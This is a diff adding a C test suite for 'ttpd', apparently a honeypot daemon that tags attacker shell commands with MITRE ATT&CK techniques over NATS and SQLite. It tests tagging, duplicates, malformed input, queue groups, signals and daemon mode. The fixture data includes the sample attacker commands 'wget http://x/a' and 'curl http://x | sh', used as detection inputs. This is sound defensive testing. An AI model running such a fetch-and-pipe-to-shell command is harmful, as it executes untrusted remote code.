@@ -1,0 +1,453 @@
+/*
+ * ttpd live on core NATS: a real nats-server, the real daemon, a temp
+ * SQLite file.  Envelopes in, rows and ttp.tagged / ttp.rule.fired.<T>
+ * out; duplicates, malformed input, queue groups, signals, daemon mode.
+ */
+#include "config.h"
+
+#include <check.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "json.h"
+#include "natsfx.h"
+#include "tag.h"
+#include "testutil.h"
+
+#define ROWS "SELECT count(*) FROM ttp_tag"
+
+/* Parse a message body; the envelope shape is checked on the way. */
+static ttpd_value *
+envelope_of(natsMsg *m, const char *topic, const char *type)
+{
+	ttpd_value *v = jv_parse(natsMsg_GetData(m),
+	    (size_t)natsMsg_GetDataLength(m), NULL, 0);
+	const char *id;
+	int64_t ver;
+	double ts;
+
+	ck_assert_msg(v != NULL, "not JSON: %s", natsMsg_GetData(m));
+	ck_assert(jv_get_int(jv_object_get(v, "v"), &ver) == TTPD_OK &&
+	    ver == 1);
+	id = jv_string(jv_object_get(v, "id"));
+	ck_assert(id != NULL && strlen(id) == 32 &&
+	    strspn(id, "0123456789abcdef") == 32);
+	ck_assert_str_eq(jv_string(jv_object_get(v, "topic")), topic);
+	ck_assert_str_eq(jv_string(jv_object_get(v, "type")), type);
+	ck_assert(jv_type(jv_object_get(v, "ts")) == TTPD_VT_REAL &&
+	    jv_get_number(jv_object_get(v, "ts"), &ts) == TTPD_OK &&
+	    ts > 1.7e9);
+	ck_assert(jv_type(jv_object_get(v, "payload")) == TTPD_VT_OBJECT);
+	return v;
+}
+
+static void
+assert_str_array(const ttpd_value *a, const char *const *want, size_t n)
+{
+	size_t i;
+
+	ck_assert_msg(jv_type(a) == TTPD_VT_ARRAY && jv_array_size(a) == n,
+	    "array of %zu wanted", n);
+	for (i = 0; i < n; i++)
+		ck_assert_str_eq(jv_string(jv_array_get(a, i)), want[i]);
+}
+
+static const char *const other_topics[][2] = {
+	{ "attacker.observed", "{\"v\":1,\"id\":\"%032x\",\"type\":"
+	  "\"observed\",\"ts\":1.0,\"payload\":{\"attacker_ip\":\"10.9.9.9\","
+	  "\"decky\":\"d\",\"service\":\"ssh\"}}" },
+	{ "attacker.intel.enriched", "{\"v\":1,\"id\":\"%032x\",\"type\":"
+	  "\"intel.enriched\",\"ts\":1.0,\"payload\":{\"attacker_uuid\":"
+	  "\"att-A\",\"aggregate_verdict\":\"malicious\"}}" },
+	{ "attacker.fingerprinted", "{\"v\":1,\"id\":\"%032x\",\"type\":"
+	  "\"ipv6_leak\",\"ts\":1.0,\"payload\":{\"attacker_ip\":"
+	  "\"10.9.9.9\",\"addr\":\"fe80::1\"}}" },
+	{ "identity.formed", "{\"v\":1,\"id\":\"%032x\",\"type\":\"formed\","
+	  "\"ts\":1.0,\"payload\":{\"identity_uuid\":\"id-1\","
+	  "\"observation_uuids\":[]}}" },
+	{ "identity.merged", "{\"v\":1,\"id\":\"%032x\",\"type\":\"merged\","
+	  "\"ts\":1.0,\"payload\":{\"winner_uuid\":\"a\",\"loser_uuid\":"
+	  "\"b\"}}" },
+	{ "credential.reuse.detected", "{\"v\":1,\"id\":\"%032x\",\"type\":"
+	  "\"reuse.detected\",\"ts\":1.0,\"payload\":{\"id\":\"c1\","
+	  "\"attacker_uuids\":[\"a\"]}}" },
+	{ "email.received", "{\"v\":1,\"id\":\"%032x\",\"type\":"
+	  "\"received\",\"ts\":1.0,\"payload\":{\"source_id\":\"m1\","
+	  "\"attacker_uuid\":\"att-A\",\"subject\":\"hi\"}}" },
+	{ "canary.tok1.triggered", "{\"v\":1,\"id\":\"%032x\",\"type\":\"\","
+	  "\"ts\":1.0,\"payload\":{\"token_id\":\"tok1\",\"src_ip\":"
+	  "\"10.9.9.9\"}}" },
+};
+
+START_TEST(test_core_topics_and_payloads)
+{
+	struct fx f;
+	natsMsg *m;
+	ttpd_value *tagged = NULL, *fired[2] = { NULL, NULL }, *p;
+	char u0[TAG_UUID_LEN + 1], u1[TAG_UUID_LEN + 1],
+	    u2[TAG_UUID_LEN + 1], buf[512];
+	size_t i;
+
+	fx_setup(&f, NULL, NULL);
+	fx_ttpd_start(&f, 0, 1);
+	/* one session, two commands: wget (T1105) and curl|sh (T1105 and
+	 * T1059.004), three tags */
+	fx_pub_str(&f, "attacker.session.ended",
+	    "{\"v\":1,\"id\":\"00000000000000000000000000000001\","
+	    "\"topic\":\"ignored.by.ttpd\",\"type\":\"session.ended\","
+	    "\"ts\":1700000000.25,\"payload\":{\"session_id\":\"sess-A\","
+	    "\"attacker_uuid\":\"att-A\",\"attacker_ip\":\"10.1.1.1\","
+	    "\"decky_id\":\"decky-1\",\"commands\":["
+	    "{\"id\":\"A#0\",\"command_text\":\"wget http://x/a\"},"
+	    "\"curl http://x | sh\"]}}");
+	for (i = 0; i < sizeof other_topics / sizeof other_topics[0]; i++) {
+		snprintf(buf, sizeof buf, other_topics[i][1], (unsigned)i + 7);
+		fx_pub_str(&f, other_topics[i][0], buf);
+	}
+	ck_assert_int_eq(fx_wait_count(&f, ROWS, 3, 20), 3);
+	ck_assert_int_eq(fx_count(&f, "SELECT count(*) FROM ttp_tag WHERE "
+	    "attacker_uuid='att-A' AND session_id='sess-A' AND "
+	    "decky_id='decky-1' AND source_kind='command'"), 3);
+	ck_assert_int_eq(fx_count(&f, "SELECT count(*) FROM ttp_tag WHERE "
+	    "source_id='sess-A#cmd1' AND technique_id='T1059' AND "
+	    "sub_technique_id='T1059.004'"), 1);
+
+	tag_uuid("command", "A#0", "TI0001", 1, "T1105", NULL, u0);
+	tag_uuid("command", "sess-A#cmd1", "TI0002", 1, "T1105", NULL, u1);
+	tag_uuid("command", "sess-A#cmd1", "TI0002", 1, "T1059", "T1059.004",
+	    u2);
+	while ((m = fx_next_out(&f, 2000)) != NULL) {
+		const char *subj = natsMsg_GetSubject(m);
+
+		if (strcmp(subj, "ttp.tagged") == 0) {
+			ck_assert_msg(tagged == NULL, "two ttp.tagged");
+			tagged = envelope_of(m, "ttp.tagged", "tagged");
+		} else if (strcmp(subj, "ttp.rule.fired.T1059") == 0) {
+			ck_assert(fired[0] == NULL);
+			fired[0] = envelope_of(m, subj, "rule.fired");
+		} else if (strcmp(subj, "ttp.rule.fired.T1105") == 0) {
+			ck_assert(fired[1] == NULL);
+			fired[1] = envelope_of(m, subj, "rule.fired");
+		} else
+			ck_abort_msg("unexpected message on %s", subj);
+		natsMsg_Destroy(m);
+	}
+	ck_assert_msg(tagged != NULL && fired[0] != NULL && fired[1] != NULL,
+	    "missing ttp.tagged or ttp.rule.fired");
+	p = (ttpd_value *)jv_object_get(tagged, "payload");
+	ck_assert_str_eq(jv_string(jv_object_get(p, "attacker_uuid")),
+	    "att-A");
+	ck_assert(jv_type(jv_object_get(p, "identity_uuid")) == TTPD_VT_NULL);
+	ck_assert_str_eq(jv_string(jv_object_get(p, "session_id")), "sess-A");
+	{
+		const char *uuids[] = { u0, u1, u2 };
+		const char *techs[] = { "T1059", "T1105" };
+
+		assert_str_array(jv_object_get(p, "tag_uuids"), uuids, 3);
+		assert_str_array(jv_object_get(p, "techniques_added"), techs,
+		    2);
+	}
+	ck_assert_int_eq(jv_object_size(p), 5);
+	p = (ttpd_value *)jv_object_get(fired[0], "payload");
+	ck_assert_str_eq(jv_string(jv_object_get(p, "technique_id")), "T1059");
+	{
+		const char *uuids[] = { u2 };
+
+		assert_str_array(jv_object_get(p, "tag_uuids"), uuids, 1);
+	}
+	ck_assert_str_eq(jv_string(jv_object_get(p, "attacker_uuid")),
+	    "att-A");
+	ck_assert(jv_type(jv_object_get(p, "identity_uuid")) == TTPD_VT_NULL);
+	ck_assert_str_eq(jv_string(jv_object_get(p, "session_id")), "sess-A");
+	ck_assert_int_eq(jv_object_size(p), 5);
+	p = (ttpd_value *)jv_object_get(fired[1], "payload");
+	{
+		const char *uuids[] = { u0, u1 };
+
+		assert_str_array(jv_object_get(p, "tag_uuids"), uuids, 2);
+	}
+	jv_decref(tagged);
+	jv_decref(fired[0]);
+	jv_decref(fired[1]);
+
+	/* every topic was received and none was malformed; the anchorless
+	 * ones (observed and fingerprinted without an attackers table,
+	 * merged, reuse, canary) were dropped */
+	{
+		char *beat = fx_beat(&f);
+
+		ck_assert_int_eq(fx_beat_int(beat, "received"), 9);
+		ck_assert_int_eq(fx_beat_int(beat, "no_anchor"), 5);
+		ck_assert_int_eq(fx_beat_int(beat, "malformed.wrong_type"), 0);
+		ck_assert_int_eq(fx_beat_int(beat, "queue_dropped"), 0);
+		free(beat);
+	}
+	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
+	fx_teardown(&f);
+}
+END_TEST
+
+START_TEST(test_core_same_event_five_times)
+{
+	struct fx f;
+	char *env = fx_session_env(42);
+	int i;
+
+	fx_setup(&f, NULL, NULL);
+	fx_ttpd_start(&f, 0, 1);
+	for (i = 0; i < 5; i++)
+		fx_pub_str(&f, "attacker.session.ended", env);
+	ck_assert_int_eq(fx_wait_count(&f, ROWS, 1, 20), 1);
+	/* all five went through before we count */
+	ck_assert_int_eq(fx_health(&f, "received"), 5);
+	ck_assert_int_eq(fx_count_out(&f, "ttp.tagged", 1000), 1);
+	ck_assert_int_eq(fx_count(&f, ROWS), 1);
+	free(env);
+	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
+	fx_teardown(&f);
+}
+END_TEST
+
+START_TEST(test_core_malformed_each_class)
+{
+	static const struct {
+		const char *subject, *body, *reason;
+	} bad[] = {
+		{ "attacker.session.ended", "{not json", "not_json" },
+		{ "attacker.session.ended", "[1,2,3]", "not_object" },
+		{ "attacker.session.ended", "{\"v\":1,\"type\":\"x\"}",
+		  "missing_field" },
+		{ "attacker.session.ended", "{\"v\":1,\"payload\":\"text\"}",
+		  "wrong_type" },
+		{ "attacker.session.ended", "{\"v\":\"1\",\"payload\":{}}",
+		  "wrong_type" },
+		{ "attacker.session.ended", "{\"payload\":{\"s\":\"\xff\xfe\"}}",
+		  "invalid_utf8" },
+		{ "attacker.bogus", "{\"v\":1,\"payload\":{}}",
+		  "unknown_topic" },
+	};
+	struct fx f;
+	char big[3000], *env, *beat;
+	size_t i;
+
+	/* attacker.> also brings topics ttpd has no kind for */
+	fx_setup(&f, "subjects = [ \"attacker.>\" ];",
+	    "input: { max_event_bytes = 2048; };");
+	fx_ttpd_start(&f, 0, 1);
+	for (i = 0; i < sizeof bad / sizeof bad[0]; i++)
+		fx_pub_str(&f, bad[i].subject, bad[i].body);
+	memset(big, ' ', sizeof big);
+	memcpy(big, "{\"payload\":{}}", 14);
+	fx_pub(&f, "attacker.session.ended", big, sizeof big);
+	fx_flush(&f);
+	/* a good event afterwards is still tagged */
+	env = fx_session_env(1);
+	fx_pub_str(&f, "attacker.session.ended", env);
+	free(env);
+	ck_assert_int_eq(fx_wait_count(&f, ROWS, 1, 20), 1);
+	beat = fx_beat(&f);
+	ck_assert_int_eq(fx_beat_int(beat, "malformed.not_json"), 1);
+	ck_assert_int_eq(fx_beat_int(beat, "malformed.not_object"), 1);
+	ck_assert_int_eq(fx_beat_int(beat, "malformed.missing_field"), 1);
+	ck_assert_int_eq(fx_beat_int(beat, "malformed.wrong_type"), 2);
+	ck_assert_int_eq(fx_beat_int(beat, "malformed.invalid_utf8"), 1);
+	ck_assert_int_eq(fx_beat_int(beat, "malformed.unknown_topic"), 1);
+	ck_assert_int_eq(fx_beat_int(beat, "malformed.oversized"), 1);
+	ck_assert_int_eq(fx_beat_int(beat, "received"), 9);
+	free(beat);
+	ck_assert(fx_ttpd_alive(&f, 0));
+	{
+		char *log = fx_ttpd_log(&f, 0);
+
+		ck_assert_msg(strstr(log, "malformed message on attacker.bogus"
+		    " (unknown_topic)") != NULL, "%s", log);
+		free(log);
+	}
+	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
+	fx_teardown(&f);
+}
+END_TEST
+
+/*
+ * Queue group: two daemons share one subject set; every event is tagged
+ * exactly once.  2 000 events rather than the issue's 10 000: the
+ * assertion (exactly once, both members used) does not depend on N and
+ * the suite stays short.
+ */
+START_TEST(test_core_queue_group)
+{
+	enum { N = 2000 };
+	struct fx f;
+	char *env, *log0, *log1;
+	int i;
+
+	fx_setup(&f, "queue_group = \"ttpd-workers\";", NULL);
+	fx_ttpd_start(&f, 0, 1);
+	fx_ttpd_start(&f, 1, 1);
+	for (i = 0; i < N; i++) {
+		env = fx_session_env(i);
+		fx_pub(&f, "attacker.session.ended", env, strlen(env));
+		free(env);
+	}
+	fx_flush(&f);
+	ck_assert_int_eq(fx_wait_count(&f, ROWS, N, 60), N);
+	ck_assert_int_eq(fx_count_out(&f, "ttp.tagged", 1500), N);
+	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
+	ck_assert_int_eq(fx_ttpd_stop(&f, 1, SIGTERM), 0);
+	/* both members did part of the work: neither saw all N */
+	log0 = fx_ttpd_log(&f, 0);
+	log1 = fx_ttpd_log(&f, 1);
+	ck_assert_msg(strstr(log0, "stopped: 2000 messages") == NULL &&
+	    strstr(log0, "stopped: 0 messages") == NULL, "%s", log0);
+	ck_assert_msg(strstr(log1, "stopped: 2000 messages") == NULL &&
+	    strstr(log1, "stopped: 0 messages") == NULL, "%s", log1);
+	free(log0);
+	free(log1);
+	ck_assert_int_eq(fx_count(&f, ROWS), N);
+	fx_teardown(&f);
+}
+END_TEST
+
+/* SIGTERM right after a burst: everything received is committed and
+ * published before the exit. */
+START_TEST(test_core_sigterm_drains)
+{
+	enum { N = 3000 };
+	struct fx f;
+	char *env, *log;
+	int i;
+
+	fx_setup(&f, NULL, NULL);
+	fx_ttpd_start(&f, 0, 1);
+	for (i = 0; i < N; i++) {
+		env = fx_session_env(i);
+		fx_pub(&f, "attacker.session.ended", env, strlen(env));
+		free(env);
+	}
+	fx_flush(&f);
+	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
+	ck_assert_int_eq(fx_count(&f, ROWS), N);
+	ck_assert_int_eq(fx_count_out(&f, "ttp.tagged", 1000), N);
+	log = fx_ttpd_log(&f, 0);
+	ck_assert_msg(strstr(log, "stopped: 3000 messages received, 0 "
+	    "dropped") != NULL, "%s", log);
+	free(log);
+	fx_teardown(&f);
+}
+END_TEST
+
+START_TEST(test_core_sighup_reload)
+{
+	struct fx f;
+	char *env, *log, path[1024];
+
+	fx_setup(&f, NULL, NULL);
+	fx_ttpd_start(&f, 0, 1);
+	/* a broken configuration: the running one stays */
+	snprintf(path, sizeof path, "%s/ttpd.conf", f.dir);
+	tu_write_file(path, "store: { path = 12; };\n");
+	kill(f.ttpd_pid[0], SIGHUP);
+	env = fx_session_env(1);
+	fx_pub_str(&f, "attacker.session.ended", env);
+	free(env);
+	ck_assert_int_eq(fx_wait_count(&f, ROWS, 1, 20), 1);
+	ck_assert(fx_ttpd_alive(&f, 0));
+	log = fx_ttpd_log(&f, 0);
+	ck_assert_msg(strstr(log, "reload failed: keeping the running "
+	    "configuration") != NULL, "%s", log);
+	free(log);
+
+	/* a good one with a new rule (uname -> T1082): it applies; this
+	 * time through the control subject */
+	tu_write_file(strcat(strcpy(path, f.dir), "/rules/TI0003.yaml"),
+	    "rule_id: TI0003\nrule_version: 1\nname: uname\n"
+	    "description: added by reload\napplies_to: [command]\n"
+	    "match:\n  field: command_text\n  pattern: '\\buname\\b'\n"
+	    "emits:\n  - tactic: TA0007\n    technique_id: T1082\n"
+	    "    confidence: 0.5\nevidence_fields: [command_text]\n");
+	fx_write_conf(&f, NULL, NULL);
+	fx_pub_str(&f, "system.ttp.control", "{\"action\":\"reload\"}");
+	fx_health(&f, "received"); /* a beat after the reload */
+	fx_health(&f, "received");
+	fx_pub_str(&f, "attacker.session.ended",
+	    "{\"payload\":{\"session_id\":\"s-u\",\"attacker_uuid\":\"a\","
+	    "\"commands\":[\"uname -a\"]}}");
+	ck_assert_int_eq(fx_wait_count(&f, "SELECT count(*) FROM ttp_tag "
+	    "WHERE rule_id='TI0003'", 1, 20), 1);
+	log = fx_ttpd_log(&f, 0);
+	ck_assert_msg(strstr(log, "reloaded from") != NULL, "%s", log);
+	free(log);
+	/* {"action":"stop"} stops it cleanly */
+	fx_pub_str(&f, "system.ttp.control",
+	    "{\"v\":1,\"type\":\"control\",\"payload\":{\"action\":\"stop\"}}");
+	ck_assert_int_eq(fx_ttpd_stop(&f, 0, 0), 0);
+	fx_teardown(&f);
+}
+END_TEST
+
+/* Without -f: detach, pidfile, a second instance refused. */
+START_TEST(test_daemon_mode_pidfile)
+{
+	struct fx f;
+	char pidpath[1024], *pidtext, *err = NULL;
+	long pid;
+	int rc, i;
+
+	fx_setup(&f, NULL, NULL);
+	snprintf(pidpath, sizeof pidpath, "%s/ttpd.pid", f.dir);
+	{
+		const char *args[] = { "-c", f.conf, NULL };
+
+		rc = tu_run_ttpd(args, NULL, &err);
+	}
+	ck_assert_msg(rc == 0, "exit %d: %s", rc, err);
+	free(err);
+	pidtext = tu_read_file(pidpath, NULL);
+	ck_assert(pidtext != NULL);
+	pid = strtol(pidtext, NULL, 10);
+	free(pidtext);
+	ck_assert(pid > 1 && kill((pid_t)pid, 0) == 0);
+	{
+		const char *args[] = { "-c", f.conf, NULL };
+
+		rc = tu_run_ttpd(args, NULL, &err);
+	}
+	ck_assert_int_eq(rc, 1);
+	ck_assert_msg(strstr(err, "another ttpd is already running") != NULL,
+	    "%s", err);
+	free(err);
+	kill((pid_t)pid, SIGTERM);
+	for (i = 0; i < 300 && kill((pid_t)pid, 0) == 0; i++)
+		usleep(50000);
+	ck_assert_msg(kill((pid_t)pid, 0) != 0, "daemon still running");
+	ck_assert(access(pidpath, F_OK) != 0);
+	fx_teardown(&f);
+}
+END_TEST
+
+int
+main(void)
+{
+	Suite *s = suite_create("bus_core");
+	TCase *tc = tcase_create("nats");
+	SRunner *sr;
+	int failed;
+
+	tcase_set_timeout(tc, 120);
+	tcase_add_test(tc, test_core_topics_and_payloads);
+	tcase_add_test(tc, test_core_same_event_five_times);
+	tcase_add_test(tc, test_core_malformed_each_class);
+	tcase_add_test(tc, test_core_queue_group);
+	tcase_add_test(tc, test_core_sigterm_drains);
+	tcase_add_test(tc, test_core_sighup_reload);
+	tcase_add_test(tc, test_daemon_mode_pidfile);
+	suite_add_tcase(s, tc);
+	sr = srunner_create(s);
+	srunner_run_all(sr, CK_NORMAL);
+	failed = srunner_ntests_failed(sr);
+	srunner_free(sr);
+	return failed == 0 ? 0 : 1;
+}
